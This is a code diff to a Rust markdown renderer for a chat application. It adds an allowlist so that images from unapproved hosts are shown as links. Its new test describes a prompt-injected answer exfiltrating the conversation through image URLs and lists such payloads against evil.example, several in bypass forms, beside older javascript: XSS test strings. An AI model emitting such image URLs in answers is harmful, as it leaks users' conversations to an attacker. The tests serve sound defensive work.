@@ -2,12 +2,16 @@
 //! lists and footnotes (pulldown-cmark), code blocks highlighted with CSS classes (syntect,
 //! `hl-` prefixed, so the page's stylesheet picks the colours), TeX (`$...$`, `$$...$$`) as
 //! MathML that browsers typeset natively (pulldown-latex), and everything passed through a
-//! whitelist sanitizer (ammonia). Raw HTML in the text is shown as text, never interpreted. A
-//! pure function of its input.
+//! whitelist sanitizer (ammonia). Raw HTML in the text is shown as text, never interpreted.
+//! Images load only from this server or the hosts the administrator allows: any other becomes
+//! a link to it, since an image is fetched without a click and its URL can carry the
+//! conversation away. A pure function of its input and those hosts.
 
 use std::sync::OnceLock;
 
 use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
+
+use crate::config::ImageHosts;
 use syntect::html::{ClassStyle, ClassedHTMLGenerator};
 use syntect::parsing::SyntaxSet;
 use syntect::util::LinesWithEndings;
@@ -151,8 +155,35 @@ fn sanitizer() -> &'static ammonia::Builder<'static> {
     })
 }
 
-/// `markdown` as sanitized HTML.
-pub fn to_html(markdown: &str) -> String {
+/// Whether an image at `dest` may load: a path on this server, or https from an allowed host.
+fn image_allowed(dest: &str, images: &ImageHosts) -> bool {
+    // Resolved as a browser would (`//host/x` and `/\host/x` name another host), against a
+    // stand-in for this server's address.
+    const HERE: &str = "librechat.invalid";
+    static BASE: OnceLock<url::Url> = OnceLock::new();
+    let base = BASE.get_or_init(|| url::Url::parse("https://librechat.invalid/").expect("a URL"));
+    match base.join(dest.trim()) {
+        Ok(u) if u.scheme() == "https" => match u.host_str() {
+            Some(HERE) => true,
+            Some(host) => images.allows(host),
+            None => false,
+        },
+        _ => false,
+    }
+}
+
+/// What became of an image the text asked for.
+enum Shown {
+    /// Kept as an image.
+    Image,
+    /// Shown as a link to it, with its alt text (or its URL) as the link's text.
+    Link { url: String, from: usize },
+    /// Left out, alt text kept (inside a link, where another link cannot go).
+    Dropped,
+}
+
+/// `markdown` as sanitized HTML, with images only from this server and `images`.
+pub fn to_html(markdown: &str, images: &ImageHosts) -> String {
     let options = Options::ENABLE_TABLES
         | Options::ENABLE_STRIKETHROUGH
         | Options::ENABLE_TASKLISTS
@@ -160,8 +191,59 @@ pub fn to_html(markdown: &str) -> String {
         | Options::ENABLE_MATH;
     let mut events: Vec<Event<'_>> = Vec::new();
     let mut code: Option<(String, String)> = None;
+    let mut shown: Vec<Shown> = Vec::new();
+    let mut links = 0usize;
     for event in Parser::new_ext(markdown, options) {
         match event {
+            Event::Start(Tag::Image {
+                link_type,
+                dest_url,
+                title,
+                id,
+            }) => {
+                if image_allowed(&dest_url, images) {
+                    shown.push(Shown::Image);
+                    events.push(Event::Start(Tag::Image {
+                        link_type,
+                        dest_url,
+                        title,
+                        id,
+                    }));
+                } else if links > 0 {
+                    shown.push(Shown::Dropped);
+                } else {
+                    links += 1;
+                    shown.push(Shown::Link {
+                        url: dest_url.to_string(),
+                        from: events.len(),
+                    });
+                    events.push(Event::Start(Tag::Link {
+                        link_type,
+                        dest_url,
+                        title,
+                        id,
+                    }));
+                }
+            }
+            Event::End(TagEnd::Image) => match shown.pop() {
+                Some(Shown::Link { url, from }) => {
+                    links -= 1;
+                    if events.len() == from + 1 {
+                        events.push(Event::Text(CowStr::from(url)));
+                    }
+                    events.push(Event::End(TagEnd::Link));
+                }
+                Some(Shown::Dropped) => {}
+                Some(Shown::Image) | None => events.push(Event::End(TagEnd::Image)),
+            },
+            Event::Start(Tag::Link { .. }) => {
+                links += 1;
+                events.push(event);
+            }
+            Event::End(TagEnd::Link) => {
+                links = links.saturating_sub(1);
+                events.push(event);
+            }
             Event::Start(Tag::CodeBlock(kind)) => {
                 let lang = match kind {
                     CodeBlockKind::Fenced(info) => info.to_string(),
@@ -201,9 +283,13 @@ pub fn to_html(markdown: &str) -> String {
 mod tests {
     use super::*;
 
+    fn html_of(markdown: &str) -> String {
+        to_html(markdown, &ImageHosts::default())
+    }
+
     #[test]
     fn markdown_tables_lists_and_math() {
-        let html = to_html(
+        let html = html_of(
             "# Title\n\n**bold** and ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n$e^{i\\pi}$ and $$x < y$$",
         );
         assert!(html.contains("<h1>Title</h1>"), "{html}");
@@ -232,14 +318,14 @@ mod tests {
         );
         assert!(html.contains("<mo>&lt;</mo>"), "{html}");
         // A formula that does not parse still shows its source.
-        let broken = to_html("$\\frac{1$");
+        let broken = html_of("$\\frac{1$");
         assert!(broken.contains("frac"), "{broken}");
     }
 
     #[test]
     fn code_is_highlighted_with_classes() {
         let html =
-            to_html("```rust\nfn main() { let x = \"<b>\"; }\n```\n\n```nosuchlang\na < b\n```");
+            html_of("```rust\nfn main() { let x = \"<b>\"; }\n```\n\n```nosuchlang\na < b\n```");
         assert!(
             html.contains("<pre><code class=\"language-rust\">"),
             "{html}"
@@ -250,6 +336,57 @@ mod tests {
             html.contains("<code class=\"language-nosuchlang\">a &lt; b"),
             "{html}"
         );
+    }
+
+    #[test]
+    fn images_load_only_from_this_server_or_allowed_hosts() {
+        // A prompt-injected answer tries to send the conversation away in an image URL.
+        for input in [
+            "![x](https://evil.example/?q=secret)",
+            "![x](http://evil.example/a.png)",
+            "![x](//evil.example/a.png)",
+            "![x](/\\evil.example/a.png)",
+            "![x][r]\n\n[r]: https://evil.example/r.png",
+            "[![x](https://evil.example/a.png)](https://example.org)",
+            "![![y](https://evil.example/b.png)](https://evil.example/a.png)",
+            "![](https://evil.example/?q=secret)",
+            "![x](https://images.example.com.evil.example/a.png)",
+        ] {
+            let html = to_html(input, &ImageHosts::of(["images.example.com"]));
+            assert!(
+                !tags(&html).iter().any(|t| t.starts_with("img")),
+                "{input:?} gave {html}"
+            );
+        }
+        // Shown as a link the person may follow, with its alt text or its address.
+        let html = html_of("![the chart](https://evil.example/c.png)");
+        assert!(
+            html.contains("<a href=\"https://evil.example/c.png\" rel=\"noopener noreferrer nofollow\">the chart</a>"),
+            "{html}"
+        );
+        assert!(
+            html_of("![](https://evil.example/c.png)").contains(">https://evil.example/c.png</a>")
+        );
+        // Inside a link: the alt text only.
+        let html = html_of("[![x](https://evil.example/a.png)](https://example.org)");
+        assert_eq!(
+            tags(&html).iter().filter(|t| t.starts_with("a ")).count(),
+            1,
+            "{html}"
+        );
+        // This server's images, and allowed hosts over https, stay images.
+        let allowed = ImageHosts::of(["images.example.com", "*.cdn.example.org"]);
+        for input in [
+            "![x](/images/u1/a.png)",
+            "![x](images/a.png)",
+            "![x](https://images.example.com/a.png)",
+            "![x](https://a.cdn.example.org/a.png)",
+        ] {
+            let html = to_html(input, &allowed);
+            assert!(html.contains("<img src="), "{input:?} gave {html}");
+        }
+        let html = to_html("![x](http://images.example.com/a.png)", &allowed);
+        assert!(!html.contains("<img"), "https only: {html}");
     }
 
     /// The tags in `html` (text between `<` and `>`): where markup, not text, would act.
@@ -284,7 +421,7 @@ mod tests {
             "[a](<javascript:alert(1)>)",
             "[a]: javascript:alert(1)\n\n[a]",
         ] {
-            let html = to_html(input);
+            let html = html_of(input);
             for tag in tags(&html) {
                 let name = tag
                     .trim_start_matches('/')
@@ -311,12 +448,12 @@ mod tests {
                 );
             }
         }
-        let link = to_html("[ok](https://example.org)");
+        let link = html_of("[ok](https://example.org)");
         assert!(
             link.contains("rel=\"noopener noreferrer nofollow\""),
             "{link}"
         );
         // Raw HTML shows as text.
-        assert!(to_html("<b>hi</b>").contains("&lt;b&gt;hi&lt;/b&gt;"));
+        assert!(html_of("<b>hi</b>").contains("&lt;b&gt;hi&lt;/b&gt;"));
     }
 }
